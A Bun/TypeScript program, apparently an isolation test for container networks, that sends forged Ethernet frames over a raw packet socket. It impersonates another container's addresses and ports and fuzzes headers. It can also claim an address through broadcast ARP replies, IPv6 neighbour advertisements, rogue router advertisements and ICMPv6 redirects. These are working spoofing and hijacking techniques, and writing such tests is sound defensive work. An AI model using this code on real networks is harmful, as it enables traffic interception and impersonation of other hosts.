/**
 * A program for a container: sends `COUNT` random Ethernet frames through `INTERFACE` that pretend to be packets of another
 * container. The container runs it from its text, so it imports nothing of this repository.
 *
 * SPOOF is a JSON object of the type `Spoof`; SEED makes the frames repeatable. With CLAIM, an IPv4 or IPv6 address, the frames
 * claim the address instead, over two seconds: ARP answers, or neighbour advertisements, router advertisements that name this
 * container as router and a new prefix, and redirects from the address to this container.
 */
import { dlopen, ptr } from "bun:ffi";
import { readFileSync } from "node:fs";

interface Spoof {
  /** Address and port of the container whose conversation is copied. */
  from: [string, number];
  /** A server that must not receive the frames. */
  to: [string, number];
  /** Hardware addresses of the victim and of bridges. */
  hardware: string[];
}

const { INTERFACE = "eth0", COUNT = "1", SEED = "1", SPOOF = "{}", CLAIM } = process.env;
const spoof: Spoof = JSON.parse(SPOOF);
const { symbols } = dlopen("libc.so.6", {
  socket: { args: ["int", "int", "int"], returns: "int" },
  sendto: { args: ["int", "ptr", "usize", "int", "ptr", "int"], returns: "i64" },
});

let state = Number(SEED);
/** Returns a pseudo-random integer below `limit`. */
function random(limit: number): number {
  state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
  return Math.floor((state / 2 ** 32) * limit);
}
function pick<Item>(items: Item[]): Item {
  const item = items[random(items.length)];
  if (item === undefined) throw new Error("nothing to pick");
  return item;
}
const bytes = (count: number) => Array.from({ length: count }, () => random(256));
const be16 = (value: number) => [(value >> 8) & 255, value & 255];
const mac = (text: string) => text.split(":").map((part) => Number.parseInt(part, 16));
const isIpv6 = spoof.from?.[0].includes(":") ?? false;
const ipv4 = (text: string) => text.split(".").map(Number);

function ipv6(text: string): number[] {
  const [before = "", after = ""] = text.split("::");
  const words = (part: string) => part.split(":").filter((word) => word !== "");
  const zeros = Array.from({ length: 8 - words(before).length - words(after).length }, () => "0");
  const all = text.includes("::") ? [...words(before), ...zeros, ...words(after)] : words(text);
  return all.flatMap((word) => be16(Number.parseInt(word, 16)));
}

function checksum(data: number[]): number {
  let sum = 0;
  for (let at = 0; at < data.length; at += 2) sum += ((data[at] ?? 0) << 8) | (data[at + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}

function transport(source: number[], target: number[], protocol: number, port: number): number[] {
  if (protocol === 17) {
    const data = [...new TextEncoder().encode("stolen")];
    const head = [...be16(port), ...be16(spoof.to[1]), ...be16(8 + data.length), 0, 0, ...data];
    const sum = checksum([...source, ...target, 0, protocol, ...be16(head.length), ...head]);
    head.splice(6, 2, ...be16(sum));
    return head;
  }
  const flags = pick([0x02, 0x10, 0x18, 0x04, random(256)]);
  const head = [...be16(port), ...be16(spoof.to[1]), ...bytes(8), 0x50, flags, 0xff, 0xff, 0, 0, 0, 0];
  const sum = checksum([...source, ...target, 0, protocol, ...be16(head.length), ...head]);
  head.splice(16, 2, ...be16(sum));
  return head;
}

/** Returns a packet of IP version 6. */
function packet6(): number[] {
  const own = ipv6(spoof.from[0]);
  const source = pick([own, own, [...own.slice(0, 15), random(256)], bytes(16)]);
  const target = ipv6(spoof.to[0]);
  const protocol = pick([17, 17, 6, random(256)]);
  const port = pick([spoof.from[1], spoof.from[1], random(65_536)]);
  const payload = transport(source, target, protocol === 17 ? 17 : 6, port);
  // Sometimes an empty header of destination options precedes the payload.
  const extension = pick([[], [], [protocol, 0, 1, 4, 0, 0, 0, 0]]);
  const next = extension.length > 0 ? 60 : protocol;
  const length = extension.length + payload.length;
  return [0x60, 0, 0, 0, ...be16(length), next, 64, ...source, ...target, ...extension, ...payload];
}

function packet(): number[] {
  const own = ipv4(spoof.from[0]);
  const source = pick([own, own, [...own.slice(0, 3), random(256)], bytes(4)]);
  const target = ipv4(spoof.to[0]);
  const protocol = pick([17, 17, 6, random(256)]);
  const port = pick([spoof.from[1], spoof.from[1], random(65_536)]);
  const payload = transport(source, target, protocol === 17 ? 17 : 6, port);
  const options = pick([[], [], [1, 1, 1, 1]]);
  const head = [0x45 + options.length / 4, 0, ...be16(20 + options.length + payload.length), ...bytes(2)];
  head.push(
    ...pick([
      [0, 0],
      [0, 0],
      [0x40, 0],
      [0x20, 0],
    ]),
    64,
    protocol,
    0,
    0,
    ...source,
    ...target,
    ...options,
  );
  head.splice(10, 2, ...be16(checksum(head)));
  return [...head, ...payload];
}

function frame(): Uint8Array {
  const groups = ["ff:ff:ff:ff:ff:ff", "01:00:5e:00:00:01", "33:33:00:00:00:01"];
  const to = pick([...groups, ...spoof.hardware]);
  const own = readFileSync(`/sys/class/net/${INTERFACE}/address`, "utf8").trim();
  const from = pick([own, ...spoof.hardware]);
  const tags = pick([[], [], [], [0x81, 0, 0, 0], [0x81, 0, 0, 5], [0x88, 0xa8, 0, 0, 0x81, 0, 0, 0]]);
  const usual = isIpv6 ? [0x86, 0xdd] : [8, 0];
  const kind = pick([usual, usual, usual, [8, 6], [0x86, 0xdd], bytes(2)]);
  const body = isIpv6 ? packet6() : packet();
  return new Uint8Array([...mac(to), ...mac(from), ...tags, ...kind, ...body]);
}

/** Returns a broadcast ARP answer: this container has the address. */
function claim(claimed: string): Uint8Array {
  const own = mac(readFileSync(`/sys/class/net/${INTERFACE}/address`, "utf8").trim());
  const all = mac("ff:ff:ff:ff:ff:ff");
  const address = ipv4(claimed);
  return new Uint8Array([
    ...all,
    ...own,
    8,
    6,
    0,
    1,
    8,
    0,
    6,
    4,
    0,
    2,
    ...own,
    ...address,
    ...all,
    ...address,
  ]);
}

/** Returns an ICMPv6 message from this container's link-local address, or another one, to all nodes. */
function icmp6(message: number[], from?: number[]): Uint8Array {
  const hardware = mac(readFileSync(`/sys/class/net/${INTERFACE}/address`, "utf8").trim());
  const all = ipv6("ff02::1");
  const source = from ?? linkLocal(hardware);
  const sum = checksum([...source, ...all, 0, 0, ...be16(message.length), 0, 0, 0, 58, ...message]);
  message.splice(2, 2, ...be16(sum));
  const head = [0x60, 0, 0, 0, ...be16(message.length), 58, 255, ...source, ...all];
  return new Uint8Array([...mac("33:33:00:00:00:01"), ...hardware, 0x86, 0xdd, ...head, ...message]);
}

function linkLocal(hardware: number[]): number[] {
  const [a = 0, b = 0, c = 0, ...rest] = hardware;
  return [0xfe, 0x80, 0, 0, 0, 0, 0, 0, a ^ 2, b, c, 0xff, 0xfe, ...rest];
}

/** Returns a frame that claims an IPv6 address or the traffic to it, or makes this container a router. */
function claim6(claimed: number[], number: number): Uint8Array {
  const hardware = mac(readFileSync(`/sys/class/net/${INTERFACE}/address`, "utf8").trim());
  const own = linkLocal(hardware);
  const prefix = [3, 4, 64, 0xc0, 0, 0, 14, 16, 0, 0, 14, 16, 0, 0, 0, 0, ...ipv6("fdba:d::")];
  const messages = [
    [136, 0, 0, 0, 0x20, 0, 0, 0, ...claimed, 2, 1, ...hardware],
    [134, 0, 0, 0, 64, 0, 14, 16, 0, 0, 0, 0, 0, 0, 0, 0, ...prefix, 1, 1, ...hardware],
    [137, 0, 0, 0, 0, 0, 0, 0, ...own, ...claimed, 2, 1, ...hardware],
  ];
  const message = messages[number % messages.length] ?? [];
  return icmp6(message, message[0] === 137 ? claimed : undefined);
}

const index = Number(readFileSync(`/sys/class/net/${INTERFACE}/ifindex`, "utf8"));
const address = new Uint8Array(20);
new DataView(address.buffer).setUint16(0, 17, true);
new DataView(address.buffer).setInt32(4, index, true);
address[11] = 6;
// AF_PACKET, SOCK_RAW.
const socket = symbols.socket(17, 3, 0);
if (socket < 0) throw new Error("no packet socket");
let sent = 0;
for (let count = 0; count < Number(COUNT); count++) {
  const claimed = CLAIM?.includes(":") ? claim6(ipv6(CLAIM), count) : claim(CLAIM ?? "0.0.0.0");
  const data = CLAIM === undefined ? frame() : claimed;
  if (CLAIM !== undefined) Bun.sleepSync(2000 / Number(COUNT));
  address.set(data.slice(0, 6), 12);
  if (symbols.sendto(socket, ptr(data), data.length, 0, ptr(address), address.length) > 0) sent++;
}
console.log(sent);
